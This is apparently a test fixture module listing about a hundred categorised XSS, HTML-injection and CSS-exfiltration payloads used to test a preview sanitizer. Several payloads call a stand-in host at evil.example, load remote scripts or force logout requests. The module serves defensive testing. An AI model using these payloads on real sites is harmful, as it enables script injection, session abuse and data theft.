"""A hundred ways out of the desk's preview, by public classes of attack: markup that would run, load, leave or navigate.

In each, `@H` is a host that nobody else's payload names, `@O` the desk's own origin, `@N` the payload's number. What
would run says so on the console, by a dialog and to its host.
"""

from __future__ import annotations

from collections.abc import Mapping

RUN = "console.log('RAN@N');alert('@N');fetch('https://@H/ran')"
_B64 = "PHNjcmlwdD5hbGVydCgxKTtwYXJlbnQubG9jYXRpb249J2h0dHBzOi8vQEgvJzwvc2NyaXB0Pg=="

CLASSES: Mapping[str, tuple[str, ...]] = {
    "scripts": (
        f"<script>{RUN}</script>",
        "<script src='https://@H/a.js'></script>",
        "<script src='@O/static/js/desk.js'></script>",
        f"<script type=module>{RUN}</script>",
        "<script type=module src='https://@H/m.js'></script>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<SCRIPT/x>{RUN}</SCRIPT >",
        f"</title></style></textarea><script>{RUN}</script>",
        f"<script>/*{'*' * 64}*/{RUN}//",
        '<script type=speculationrules>{"prerender":[{"urls":["https://@H/p","@O/desk"]}]}</script>',
        '<script type=importmap>{"imports":{"a":"https://@H/i.js"}}</script><script type=module>import \'a\'</script>',
    ),
    "handlers": (
        f'<img src=x onerror="{RUN}">',
        f'<svg onload="{RUN}">',
        f'<body onload="{RUN}" onpageshow="{RUN}">',
        f'<input autofocus onfocus="{RUN}">',
        f'<details open ontoggle="{RUN}"><summary>x</summary>y</details>',
        f'<video src=x onerror="{RUN}"></video><audio src=x onerror="{RUN}">',
        f'<marquee onstart="{RUN}">x</marquee>',
        f'<style>@keyframes k{{from{{left:0}}}}</style><p style="animation:k 1s" onanimationstart="{RUN}">x</p>',
        f'<a id=go href="#" onclick="{RUN}">press</a>',
        f"<img/src=`x`onerror={RUN}>",
        f'"><img src=x onerror="{RUN}"><"',
    ),
    "svg": (
        f"<svg><script>{RUN}</script></svg>",
        "<svg><script href='https://@H/s.js'/></svg>",
        f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
        "<svg><a xlink:href='javascript:alert(1)'><text id=go y=20>press</text></a></svg>",
        "<svg><use href='https://@H/u.svg#x'/></svg>",
        "<svg><image href='https://@H/i.svg' width=9 height=9 /></svg>",
        "<svg><foreignObject><iframe srcdoc=\"<script>alert('@N')</script>\"></iframe></foreignObject></svg>",
        "<svg><set attributeName=href to='javascript:alert(1)'/><a href=x><text>y</text></a></svg>",
        "<svg><filter id=f><feImage href='https://@H/fe.svg'/></filter><rect filter='url(https://@H/f.svg#f)' width=9 height=9 /></svg>",
    ),
    "mathml": (
        "<math><mtext><script>alert('@N')</script></mtext></math>",
        "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>press</maction></math>",
        "<math href='javascript:alert(1)'><mi id=go>press</mi></math>",
    ),
    "mutation": (
        f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
        f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
        f"<template><s><template><s><img src=x onerror={RUN}>",
        f'<textarea><img title="</textarea><img src=x onerror={RUN}>">',
        f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
        f"<select><template><img src=x onerror={RUN}></template></select>",
        f"<!--><img src=x onerror={RUN}>-->",
        f"<![CDATA[><img src=x onerror={RUN}>]]>",
        f"<?xml-stylesheet href='https://@H/x.xsl'?><img src=x onerror={RUN}>",
        f"<div><!--[if true]><img src=x onerror={RUN}><![endif]--></div>",
    ),
    "navigation": (
        "<meta http-equiv=refresh content='0;url=https://@H/refresh'>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<meta http-equiv=refresh content='0;url=@O/desk/logout'>",
        "<base href='https://@H/'><a id=go href='relative'>press</a>",
        "<base target=_top><a id=go href='https://@H/base-top'>press</a>",
        "<a id=go target=_top href='https://@H/top'>press</a>",
        "<a id=go target=_parent href='https://@H/parent'>press</a>",
        "<a id=go target=_blank rel=opener href='https://@H/opener'>press</a>",
        "<a id=go href='https://@H/plain'>press</a>",
        "<a id=go href='@O/desk/logout'>press</a>",
        "<a id=go href='javascript:top.location=\"https://@H/\"'>press</a>",
        "<a id=go href='JaVaScRiPt&colon;alert(1)'>press</a>",
        "<a id=go href='&#106;avascript&#x3a;alert(1)'>press</a>",
        "<a id=go href='java&#9;script:alert(1)'>press</a>",
        "<a id=go href=' &#1; javascript:alert(1)'>press</a>",
        f"<a id=go href='data:text/html;base64,{_B64}'>press</a>",
        "<a id=go href='vbscript:msgbox(1)'>press</a>",
        "<a id=go download href='@O/desk/sunday/2026-11-29/source'>press</a>",
        "<a id=go ping='https://@H/ping @O/desk/logout' href='#x'>press</a>",
        "<map name=m><area id=go shape=default target=_top href='https://@H/area'></map><img usemap='#m' width=50 height=50>",
    ),
    "forms": (
        "<form action='https://@H/form' method=post><button id=go>press</button></form>",
        "<form action='@O/desk/logout' method=post><button id=go>press</button></form>",
        "<form target=_top action='@O/desk/login' method=post><input type=submit id=go value=press></form>",
        "<form id=f></form><button id=go form=f formaction='https://@H/fa' formtarget=_top>press</button>",
        "<form action='javascript:alert(1)'><input type=image id=go src=x width=50 height=50></form>",
        "<isindex action='https://@H/ix' prompt=x><form><input name=password autocomplete=current-password></form>",
    ),
    "frames": (
        "<iframe src='https://@H/frame'></iframe>",
        "<iframe src='@O/desk'></iframe>",
        "<iframe srcdoc=\"<script>alert('@N')</script><img src='https://@H/doc.js'>\"></iframe>",
        "<iframe src='javascript:alert(1)'></iframe>",
        f"<iframe src='data:text/html;base64,{_B64}'></iframe>",
        "<frameset><frame src='@O/desk'></frameset>",
        "<object data='https://@H/object'></object>",
        "<object data='@O/desk' type='text/html'></object>",
        "<embed src='https://@H/embed.svg'><embed src='@O/desk'>",
        "<applet code=x archive='https://@H/a.jar'></applet>",
        "<portal src='https://@H/portal'></portal><fencedframe src='https://@H/ff'></fencedframe>",
    ),
    "style": (
        "<style>@import 'https://@H/i.css';</style>",
        "<link rel=stylesheet href='https://@H/l.css'>",
        "<style>@font-face{font-family:x;src:url(https://@H/f.woff2)}body{font-family:x}</style>x",
        "<style>input[value^=a]{background:url(http://@H/a)}</style><input value=abc>",
        "<p style=\"background:url('@O/desk/logout')\">x</p>",
        "<style>p{cursor:url(http://@H/c.cur),auto;list-style-image:url(http://@H/l)}</style><p>x",
        '<p style="width:expression(alert(1));behavior:url(#x);-moz-binding:url(https://@H/x.xml#y)">x</p>',
        "<style>body{position:fixed;inset:0;z-index:99999}</style><p style='position:fixed;top:-999px'>over the page",
    ),
    "hints": (
        "<link rel=prefetch href='https://@H/prefetch'><link rel=prefetch href='@O/desk'>",
        "<link rel=preload as=image href='http://@H/preload'><link rel=preload as=script href='https://@H/p.js'>",
        "<link rel=modulepreload href='https://@H/mp.js'>",
        "<link rel=preconnect href='https://@H'>",
        "<link rel=dns-prefetch href='//@H'>",
        "<link rel=manifest href='https://@H/m.json'><link rel=icon href='http://@H/i.ico'>",
        "<link rel=prerender href='https://@H/prerender'>",
    ),
    "media": (
        "<img src='@O/desk/logout' srcset='@O/desk 2x'>",
        "<video poster='http://@H/poster' src='https://@H/v.mp4' autoplay muted><track default src='https://@H/t.vtt'></video>",
    ),
}

PAYLOADS: tuple[tuple[str, str], ...] = tuple(
    (f"{kind}-{number:02}", text)
    for kind, texts in CLASSES.items()
    for number, text in enumerate(texts)
)


def host(number: int, ahead: str = "p") -> str:
    """The host that only this payload names. ahead: which of several tests it is in."""
    return f"{ahead}{number:03}.evil.example"


def armed(number: int, origin: str, ahead: str = "p") -> str:
    """A payload with its own host; origin: the desk's."""
    text = PAYLOADS[number][1]
    mark = f"{ahead}{number:03}"
    return text.replace("@H", host(number, ahead)).replace("@O", origin).replace("@N", mark)
